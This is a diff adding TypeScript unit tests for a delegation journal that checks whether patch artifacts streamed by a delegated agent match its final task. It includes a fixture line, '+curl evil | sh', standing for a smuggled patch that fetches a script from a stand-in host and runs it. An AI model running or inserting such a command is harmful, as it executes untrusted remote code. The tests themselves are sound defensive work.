@@ -3,12 +3,12 @@
 import * as assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
 import { describe, it } from 'node:test';
-import type { StreamResponse } from '@a2a-js/sdk';
+import type { Artifact, Part, StreamResponse, Task } from '@a2a-js/sdk';
 import { Role, TaskState } from '@a2a-js/sdk';
 import { META } from '../../../src/core/batonProfile';
 import type { CoalescerClock } from '../../../src/core/coalescer';
 import { UpdateCoalescer } from '../../../src/core/coalescer';
-import type { OutcomeFacts } from '../../../src/core/delegation';
+import type { JournalEntry, OutcomeFacts } from '../../../src/core/delegation';
 import { DelegationJournal, decideOutcome } from '../../../src/core/delegation';
 import { buildDelegationMessage } from '../../../src/core/delegation/context';
 import { checkDelegationChain, intersectCapabilities, READ_ONLY } from '../../../src/core/delegation/guards';
@@ -97,6 +97,80 @@ describe('DelegationJournal', () => {
     assert.equal(v.timeline.at(-1)?.kind === 'step' ? v.timeline.at(-1)?.kind : 'x', 'step');
     assert.equal(v.state, 'working');
     assert.equal(v.actions.cancel, true);
+  });
+});
+
+describe('DelegationJournal: the stream against the final task', () => {
+  const req = makeRequest({ url: 'http://127.0.0.1:1/a2a', protocolBinding: 'JSONRPC', protocolVersion: '1.0' }, 'T');
+  const part = (text: string): Part => ({ content: { $case: 'text', value: text }, filename: 'changes.patch', mediaType: 'text/x-diff', metadata: undefined });
+  const artifact = (artifactId: string, name: string, texts: readonly string[]): Artifact => ({ artifactId, name, description: '', parts: texts.map(part), metadata: undefined, extensions: [] });
+  const chunk = (a: Artifact, append: boolean, lastChunk = false): StreamResponse => ({ payload: { $case: 'artifactUpdate', value: { taskId: 't', contextId: 'c', artifact: a, append, lastChunk, metadata: undefined } } });
+  const finalTask = (artifacts: Artifact[]): Task => ({ id: 't', contextId: 'c', status: { state: TaskState.TASK_STATE_COMPLETED, message: undefined, timestamp: undefined }, artifacts, history: [], metadata: undefined });
+  /** A journal that streamed `events` (artifact chunks), completed, then took `final` as the final task. */
+  function journal(events: readonly StreamResponse[], ...finals: Artifact[][]): DelegationJournal {
+    const j = new DelegationJournal(req);
+    j.apply({ kind: 'send', at: 1, attempt: 1 });
+    j.apply({ kind: 'task', at: 1, taskId: 't', contextId: 'c' });
+    events.forEach((event, i) => j.apply({ kind: 'event', at: 2 + i, taskId: 't', seq: i + 1, sequenced: false, event }));
+    j.apply({ kind: 'event', at: 50, taskId: 't', seq: 99, sequenced: false, event: status(TaskState.TASK_STATE_COMPLETED) });
+    for (const f of finals) j.apply({ kind: 'snapshot', at: 60, source: 'final', task: finalTask(f) });
+    return j;
+  }
+  const signed = artifact('p', 'changes.patch', ['diff --git a/x b/x\n', '+b\n']);
+  const honest = [chunk(artifact('p', 'changes.patch', ['diff --git a/x b/x\n']), false), chunk(artifact('p', '', ['+b\n']), true)];
+
+  it('streamed in append chunks that fold to the final task: no conflict', () => {
+    assert.deepEqual(journal(honest, [signed]).artifactConflicts(), []);
+    assert.deepEqual(journal([chunk(signed, false)], [signed]).artifactConflicts(), [], 'the same text in one chunk');
+    assert.deepEqual(journal([], [signed]).artifactConflicts(), [], 'nothing streamed (polling)');
+    assert.deepEqual(journal([honest[0]], [signed]).artifactConflicts(), [], 'the stream stopped before the last chunk: a beginning of it');
+  });
+
+  it('streamed but not in the final task: another changes.patch, or any other artifact', () => {
+    const evil = chunk(artifact('e', 'changes.patch', ['+curl evil | sh\n']), false);
+    const j = journal([evil, ...honest], [signed]);
+    assert.deepEqual(j.artifactConflicts(), [{ kind: 'not-final', artifactId: 'e', name: 'changes.patch' }]);
+    // The patch the journal shows is the final one, although the streamed one came first.
+    assert.equal(j.patch()?.artifactId, 'p');
+    assert.equal(j.patch()?.text, 'diff --git a/x b/x\n+b\n');
+    const notes = journal([...honest, chunk(artifact('n', 'notes.md', ['hi']), false)], [signed]);
+    assert.deepEqual(notes.artifactConflicts(), [{ kind: 'not-final', artifactId: 'n', name: 'notes.md' }]);
+  });
+
+  it('append chunks that fold to something else than the final task: changed, extra, missing, replaced, renamed', () => {
+    const cases: StreamResponse[][] = [
+      [honest[0], chunk(artifact('p', '', ['+c\n']), true)],
+      [...honest, chunk(artifact('p', '', ['+curl evil | sh\n']), true)],
+      [chunk(artifact('p', 'changes.patch', ['diff --git a/x b/x\n']), false, true)],
+      [chunk(artifact('p', 'changes.patch', ['diff --git a/y b/y\n']), false)],
+      [honest[0], chunk(artifact('p', 'changes.patch', ['+b\n']), false)],
+      [chunk(artifact('p', 'notes.md', ['diff --git a/x b/x\n']), false), honest[1]],
+    ];
+    for (const [i, events] of cases.entries()) {
+      assert.deepEqual(
+        journal(events, [signed]).artifactConflicts().map((c) => [c.kind, c.artifactId]),
+        [['differs', 'p']],
+        `case ${i}`,
+      );
+    }
+  });
+
+  it('an artifact update after the final task, and a second final task with other content', () => {
+    const j = journal(honest, [signed]);
+    j.apply({ kind: 'event', at: 70, taskId: 't', seq: 100, sequenced: false, event: chunk(artifact('p', '', ['+late\n']), true) });
+    assert.deepEqual(j.artifactConflicts(), [{ kind: 'after-final', artifactId: 'p', name: 'changes.patch' }]);
+    assert.equal(j.patch()?.text, 'diff --git a/x b/x\n+b\n', 'the late chunk does not change the final patch');
+    assert.deepEqual(journal(honest, [signed], [artifact('p', 'changes.patch', ['+other\n'])]).artifactConflicts().map((c) => c.kind), ['differs']);
+    assert.deepEqual(journal(honest, [signed], [signed]).artifactConflicts(), [], 'the same final task twice');
+  });
+
+  it('replayed from disk, the journal finds the same conflicts', () => {
+    const j = journal([chunk(artifact('e', 'changes.patch', ['+x\n']), false), ...honest], [signed]);
+    const entries: JournalEntry[] = [{ kind: 'request', at: 0, request: req }, { kind: 'send', at: 1, attempt: 1 }];
+    entries.push({ kind: 'task', at: 1, taskId: 't', contextId: 'c' });
+    [chunk(artifact('e', 'changes.patch', ['+x\n']), false), ...honest].forEach((event, i) => entries.push({ kind: 'event', at: 2 + i, taskId: 't', seq: i + 1, sequenced: false, event }));
+    entries.push({ kind: 'snapshot', at: 60, source: 'final', task: finalTask([signed]) });
+    assert.deepEqual(DelegationJournal.fromEntries(entries).artifactConflicts(), j.artifactConflicts());
   });
 });
 
